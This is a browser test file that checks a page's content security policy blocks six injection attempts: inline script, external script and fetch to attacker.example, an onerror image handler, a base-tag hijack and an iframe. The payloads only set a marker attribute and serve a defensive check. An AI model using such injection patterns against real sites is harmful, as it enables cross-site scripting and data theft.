import { SHORT_PAGE } from './pages';
import { expect, plainTest, step } from './test';

// Other tests fail if an error is logged, so they check what the policy must allow.

// A plain test, because each blocked request is logged as an error.
plainTest('the security policy blocks', async ({ page }) => {
  await page.goto(SHORT_PAGE);
  await page.route('https://attacker.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: 'document.documentElement.dataset.attack = "won"',
    }),
  );
  const attacks = {
    'a script in the page': () => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.attack = "won"';
      document.body.append(script);
    },
    'a script of another site': () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/a.js';
      document.body.append(script);
    },
    'a handler in markup': () => {
      const image =
        '<img src="data:," onerror="document.documentElement.dataset.attack = \'won\'">';
      document.body.insertAdjacentHTML('beforeend', image);
    },
    'a new base': () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
    },
    'a request elsewhere': () => {
      void fetch('https://attacker.example/').catch(() => undefined);
    },
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
  };

  for (const [name, attack] of Object.entries(attacks)) {
    await step(name, async () => {
      const blocked = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            addEventListener('securitypolicyviolation', (event) => {
              resolve(event.effectiveDirective);
            });
          }),
      );
      await page.evaluate(attack);
      expect(await blocked).toMatch(/^(script|base|connect|frame)/);
      await expect(page.locator('html')).not.toHaveAttribute('data-attack');
    });
  }
});
